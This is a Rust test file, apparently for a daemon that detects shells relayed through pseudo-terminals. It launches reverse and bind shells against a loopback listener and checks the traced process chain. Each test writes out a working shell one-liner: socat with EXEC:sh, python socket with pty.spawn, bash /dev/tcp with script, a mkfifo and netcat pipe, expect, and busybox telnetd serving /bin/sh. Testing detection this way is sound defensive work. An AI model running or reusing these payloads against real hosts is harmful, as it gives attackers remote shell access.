//! Shells on a pseudo-terminal whose master is with the holder of the socket.

use crate::common::attacker::{Listener, Session, chosen_port};
use crate::common::daemon::Daemon;
use crate::common::relayed::{Relayed, prove_relayed};
use crate::common::victim::Victim;
use crate::require;

fn start(program: &str, arguments: &[&str], expected: &Relayed) {
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let arguments: Vec<String> = arguments.iter().map(|a| a.replace("PORT", &port)).collect();
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let victim = Victim::start(program, &arguments);
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
}

#[test]
fn socat_with_a_terminal() {
    require!("socat");
    Daemon::shared();
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pts", "socat ptmx", "socat socket"],
        ..Relayed::default()
    };
    start("socat", &["TCP:127.0.0.1:PORT", "EXEC:sh -i,pty,stderr,setsid,sigint,sane"], &expected);
}

#[test]
fn busybox_telnetd() {
    require!("busybox");
    Daemon::shared();
    let port = chosen_port();
    let text = port.to_string();
    let victim =
        Victim::start("busybox", &["telnetd", "-F", "-b", "127.0.0.1", "-p", &text, "-l", "/bin/sh"]);
    let expected = Relayed {
        args: &["/bin/sh"],
        direction: "inbound",
        hops: &["sh pts", "busybox ptmx", "busybox socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), Session::dial("127.0.0.1", port), victim, &[port], &expected);
}

/// python moves its own stdio to the socket after its exec: the shell on the terminal is what there is to see.
#[test]
fn python_pty_spawn() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,os,pty\n\
        s=socket.create_connection(('127.0.0.1',PORT))\n\
        [os.dup2(s.fileno(),fd) for fd in (0,1,2)]\n\
        pty.spawn('/bin/sh')";
    let expected = Relayed {
        args: &["/bin/sh"],
        hops: &["sh pts", "python3 ptmx", "python3 socket"],
        ..Relayed::default()
    };
    start("/usr/bin/python3", &["-c", text], &expected);
}

/// The socket on any descriptor will do.
#[test]
fn python_pty_fork_with_a_high_descriptor() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,os,pty,select\n\
        s=socket.create_connection(('127.0.0.1',PORT))\n\
        pid,m=pty.fork()\n\
        if pid==0: os.execv('/bin/sh',['sh','-i'])\n\
        while True:\n\
        \x20 for f in select.select([s,m],[],[])[0]:\n\
        \x20  d=os.read(f.fileno() if f is s else f,4096)\n\
        \x20  if not d: raise SystemExit\n\
        \x20  (os.write(m,d) if f is s else s.sendall(d))";
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pts", "python3 ptmx", "python3 socket"],
        ..Relayed::default()
    };
    start("/usr/bin/python3", &["-c", text], &expected);
}

/// script has the socket on its own stdio, which is row 1; the shell in its terminal belongs to it.
#[test]
fn script_holds_the_socket() {
    require!("bash", "script");
    Daemon::shared();
    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; exec script -q -c /bin/sh /dev/null <&5 >&5 2>&5";
    let expected = Relayed { row: 1, args: &["/bin/sh"], kind: "direct", execs: 2, ..Relayed::default() };
    start("/bin/bash", &["-c", line], &expected);
}

/// script between a FIFO and netcat.
#[test]
fn script_behind_netcat() {
    require!("bash", "script", "nc.openbsd");
    Daemon::shared();
    let line =
        "cd $(mktemp -d); mkfifo f; script -q -c /bin/sh /dev/null <f 2>&1 | nc.openbsd 127.0.0.1 PORT >f";
    let expected = Relayed {
        args: &["/bin/sh"],
        execs: 2,
        hops: &["sh pts", "script ptmx", "script pipe", "nc.openbsd pipe", "nc.openbsd socket"],
        ..Relayed::default()
    };
    start("/bin/bash", &["-c", line], &expected);
}

#[test]
fn expect_interacts() {
    require!("expect");
    Daemon::shared();
    let text = "set timeout -1; log_user 0; set s [socket 127.0.0.1 PORT]; fconfigure $s -translation binary -buffering none; \
        spawn /bin/sh -i; set shell $spawn_id; spawn -open $s; set net $spawn_id; \
        interact -input $net -output $shell -input $shell -output $net";
    let expected = Relayed {
        args: &["/bin/sh", "-i"],
        hops: &["sh pts", "expect ptmx", "expect socket"],
        ..Relayed::default()
    };
    start("expect", &["-c", text], &expected);
}
